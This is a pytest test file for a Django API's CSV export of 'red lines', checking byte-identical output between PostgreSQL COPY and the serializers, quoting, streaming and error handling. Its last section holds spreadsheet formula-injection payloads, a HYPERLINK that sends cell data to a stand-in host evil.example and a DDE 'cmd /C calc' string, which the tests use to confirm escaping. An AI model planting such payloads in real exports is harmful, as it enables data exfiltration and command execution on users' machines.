"""The red lines' CSV: rendered by PostgreSQL (COPY), byte for byte the serializers'."""

import datetime
import tracemalloc

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from rest_framework.test import APIClient

from api.renderers import csv_cell
from api.views import RedLineViewSet
from bench.synthetic import synthetic_record_generate
from tests.factories import ActorFactory, EventFactory, RedLineFactory, SourceFactory
from tracker.models import RedLine
from tracker.selectors import red_line_csv

pytestmark = pytest.mark.django_db

FILTERS = [
    "",
    "severity=military",
    "q=missiles",
    "q=zzqqxx-nothing-matches",
    "ordering=-updated_at",
    "ordering=title",
    "ordering=status_changed_on",
    "ordering=-status_changed_on",
    "ordering=severity",
    "declared_after=2015-01-01",
    "addressee=odd-one",
    "q=missiles&ordering=title",
]


def fetch(url: str) -> tuple[bytes, list[str]]:
    """The export's bytes and the SQL it ran."""
    with CaptureQueriesContext(connection) as ctx:
        response = APIClient().get(url)
        assert response.status_code == 200
        body = b"".join(response.streaming_content)
    return body, [q["sql"] for q in ctx.captured_queries]


def odd_lines() -> None:
    """Lines whose cells need quoting: commas, quotes, newlines, unicode, empty and missing values."""
    odd = ActorFactory(name='Odd, "Actor"', slug="odd-one")
    base = RedLineFactory(
        title='Missiles, "quoted" and\nbroken',
        statement='Line one\r\nline two, with missiles; and a "quote"\nend',
        trigger="Ракеты — ミサイル — صواريخ ✓",
        threatened_response="",
        topics=["missiles, long-range", 'say "no"', "émigré"],
        declared_on=datetime.date(2019, 5, 6),
    )
    base.addressees.add(odd, ActorFactory(name="Zulu"), ActorFactory(name="Alpha"))
    SourceFactory(red_line=base, url='https://example.org/a?x=1,2&y="3"', published_on=None)
    restating = RedLineFactory(title="Missiles again", restates=base, topics=[], statement="A,B")
    restating.addressees.add(odd)
    SourceFactory(red_line=restating, url="", title="Pasted, as text")  # cited by its title
    RedLine.objects.filter(pk=restating.pk).update(status_changed_on=datetime.date(2020, 1, 2))


def serializer_path(monkeypatch) -> None:
    monkeypatch.setattr(RedLineViewSet, "export_csv_chunks", None)


@pytest.mark.usefixtures("fixed_day")
@pytest.mark.parametrize("query", FILTERS)
def test_csv_bytes_are_the_serializers_bytes(query, monkeypatch):
    synthetic_record_generate(actors=6, red_lines=40, events=200, seed=21)
    odd_lines()
    monkeypatch.setattr(red_line_csv, "BATCH", 7)  # several batches, keyset across ties
    url = f"/api/v1/red-lines/?format=csv&{query}"
    fast, sql = fetch(url)
    # PostgreSQL renders the CSV itself: keyset reads, then a COPY per batch.
    assert any("_csv_k0" in s for s in sql)
    assert any(s.startswith("COPY (") for s in sql) == ("nothing" not in query)
    serializer_path(monkeypatch)
    slow, slow_sql = fetch(url)
    assert not any(s.startswith("COPY") for s in slow_sql)
    assert fast == slow
    assert fast.startswith(b"slug,title,declared_by,") and fast.endswith(b"\r\n")
    if "nothing-matches" in query:
        assert fast.count(b"\r\n") == 1
    else:
        assert fast.count(b"\r\n") > 1


def test_odd_values_are_quoted_as_pythons_csv_writer_does(monkeypatch):
    odd_lines()
    fast, _ = fetch("/api/v1/red-lines/?format=csv&addressee=odd-one")
    assert b'"Missiles, ""quoted"" and\nbroken"' in fast
    assert b'"Line one\r\nline two, with missiles; and a ""quote""\nend"' in fast
    assert "Ракеты — ミサイル — صواريخ ✓".encode() in fast
    assert b'"missiles, long-range; say ""no""; \xc3\xa9migr\xc3\xa9"' in fast
    assert b"alpha; odd-one; zulu" in fast
    assert b"; Pasted, as text" in fast
    serializer_path(monkeypatch)
    assert fast == fetch("/api/v1/red-lines/?format=csv&addressee=odd-one")[0]


def test_under_another_time_zone_the_serializers_write_the_csv(monkeypatch):
    """COPY writes UTC; the product never leaves UTC, but if a zone were active the bytes stay right."""
    odd_lines()
    with timezone.override("Europe/Paris"):
        body, sql = fetch("/api/v1/red-lines/?format=csv")
        assert not any(s.startswith("COPY") for s in sql)
        assert b"+01:00," in body or b"+02:00," in body
        serializer_path(monkeypatch)
        assert fetch("/api/v1/red-lines/?format=csv")[0] == body


def test_crlf_keeps_newlines_inside_quoted_cells():
    assert red_line_csv.crlf(b'a,b\n"x\ny",z\n"1""\n",2\n') == b'a,b\r\n"x\ny",z\r\n"1""\n",2\r\n'
    assert red_line_csv.crlf(b"a,b\nc,d\n") == b"a,b\r\nc,d\r\n"


@pytest.mark.usefixtures("fixed_day")
def test_two_queries_per_batch_whatever_the_size(monkeypatch):
    monkeypatch.setattr(red_line_csv, "BATCH", 50)
    synthetic_record_generate(actors=4, red_lines=60, events=50, seed=22)
    _, small = fetch("/api/v1/red-lines/?format=csv")
    RedLineFactory.create_batch(150)
    body, large = fetch("/api/v1/red-lines/?format=csv")
    lines = RedLine.objects.filter(is_published=True).count()
    copies = [sum(s.startswith("COPY (") for s in sql) for sql in (small, large)]
    assert copies[1] == -(-lines // 50) > copies[0]
    # Each batch is one keyset read plus one COPY; nothing else grows with the result.
    assert len(large) - 2 * copies[1] == len(small) - 2 * copies[0] <= 1
    assert body.count(b"\r\n") >= lines + 1


@pytest.mark.usefixtures("fixed_day")
def test_export_streams_one_chunk_per_batch_in_flat_memory(monkeypatch):
    monkeypatch.setattr(red_line_csv, "BATCH", 40)
    synthetic_record_generate(actors=4, red_lines=200, events=50, seed=24)
    lines = RedLine.objects.filter(is_published=True).count()
    response = APIClient().get("/api/v1/red-lines/?format=csv")
    chunks = iter(response.streaming_content)
    header = next(chunks)
    assert header.startswith(b"slug,title,")
    tracemalloc.start()
    sizes = []
    peaks = []
    for chunk in chunks:
        sizes.append(len(chunk))
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.reset_peak()
    tracemalloc.stop()
    assert len(sizes) == -(-lines // 40) > 3
    # The peak while reading a batch stays within a few batches' bytes, however many batches there are.
    assert max(peaks) < 10 * max(sizes) + 2_000_000


# --- errors and formats -------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_bad_filter_is_a_json_400_even_when_csv_was_asked_for(fmt):
    response = APIClient().get(f"/api/v1/red-lines/?format={fmt}&ordering=zzz")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert "zzz is not one of the available choices" in response.json()["ordering"][0]


def test_an_unknown_line_in_csv_is_a_json_404():
    response = APIClient().get("/api/v1/red-lines/no-such-line/?format=csv")
    assert response.status_code == 404
    assert response.json() == {"detail": "No RedLine matches the given query."}


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/red-lines/?format=xml",
        "/api/v1/stats/?format=csv",
        "/api/v1/actors/?format=yaml",
        "/api/v1/red-lines/x/history/?format=csv",
        "/api/v1/dump/?format=xml",
        "/api/schema/?format=xml",
        "/api/docs/?format=xml",
    ],
)
def test_an_unknown_format_is_a_json_406_naming_the_formats_there_are(url):
    response = APIClient().get(url)
    assert response.status_code == 406
    assert response["Content-Type"] == "application/json"
    assert response.json()["detail"].startswith('Unknown format "')
    assert "this endpoint answers " in response.json()["detail"]


def test_the_format_in_the_url_wins_over_the_accept_header():
    RedLineFactory(slug="one")
    response = APIClient().get("/api/v1/red-lines/?format=csv", HTTP_ACCEPT="application/json")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert b"".join(response.streaming_content).startswith(b"slug,title,")
    accept_only = APIClient().get("/api/v1/red-lines/", HTTP_ACCEPT="application/xml")
    assert accept_only.status_code == 406
    assert accept_only["Content-Type"] == "application/json"


# --- formulas -----------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CMD = "=cmd|' /C calc'!A0"


def formula_lines() -> None:
    """A line and an actor whose text a spreadsheet would run, as an outside probe sent them."""
    actor = ActorFactory(name=CMD, slug="-cmd", aliases=["@SUM(1+1)"])
    line = RedLineFactory(
        title=HYPERLINK,
        declared_by=actor,
        statement="+1+1",
        trigger="-2+3",
        threatened_response="\tTab first",
        topics=["@SUM(A1)", "plain"],
    )
    EventFactory(red_line=line, summary="\r=carriage", kind="crossing")


@pytest.mark.parametrize("path", ["copy", "serializers"])
def test_csv_cells_that_start_a_formula_are_written_as_text_on_every_path(path, monkeypatch):
    formula_lines()
    if path == "serializers":
        serializer_path(monkeypatch)
    body, sql = fetch("/api/v1/red-lines/?format=csv")
    assert any(s.startswith("COPY (") for s in sql) == (path == "copy")
    text = body.decode()
    assert '\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")' in text
    assert ",'-cmd,'=cmd|' /C calc'!A0," in text
    assert ",'+1+1,'-2+3,'\tTab first," in text
    assert "'@SUM(A1); plain" in text
    raw = fetch("/api/v1/red-lines/?format=csv&raw=1")[0].decode()
    assert ",-cmd,=cmd|' /C calc'!A0," in raw and ",+1+1,-2+3,\tTab first," in raw
    assert '"=HYPERLINK(' in raw and ",'" not in raw


def test_every_csv_export_escapes_formulas_and_raw_keeps_the_bytes():
    formula_lines()
    for url, stored in [
        ("/api/v1/actors/?format=csv", CMD),
        ("/api/v1/events/?format=csv", "\r=carriage"),
        ("/api/v1/actors/-cmd/?format=csv", "@SUM(1+1)"),
    ]:
        response = APIClient().get(url)
        assert response.status_code == 200, url
        body = b"".join(response.streaming_content) if response.streaming else response.content
        assert ("'" + stored).encode() in body, url
        raw = APIClient().get(url + "&raw=1")
        raw_body = b"".join(raw.streaming_content) if raw.streaming else raw.content
        assert stored.encode() in raw_body and ("'" + stored).encode() not in raw_body, url


def test_numbers_are_not_text_cells():
    assert [csv_cell(v) for v in (-3, -0.5, True, None, "-3", "a-b")] == [
        "-3",
        "-0.5",
        "true",
        "",
        "'-3",
        "a-b",
    ]
